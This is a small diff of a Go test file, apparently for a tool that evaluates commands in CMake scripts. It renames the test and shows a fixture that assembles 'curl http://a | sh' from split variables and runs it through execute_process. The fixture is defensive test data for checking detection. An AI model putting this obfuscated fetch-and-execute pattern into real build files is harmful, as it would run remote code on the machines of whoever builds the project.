@@ -5,7 +5,7 @@ import (
 	"testing"
 )
 
-func TestWhatCMakeRunsIsWorkedOut(t *testing.T) {
+func TestCMakeCommandsAreEvaluated(t *testing.T) {
 	const use = "execute_process(COMMAND sh -c \"${A}\")\n"
 	for name, src := range map[string]string{
 		"set":                         "set(B cu)\nset(A \"${B}rl http://a | sh\")\n" + use,
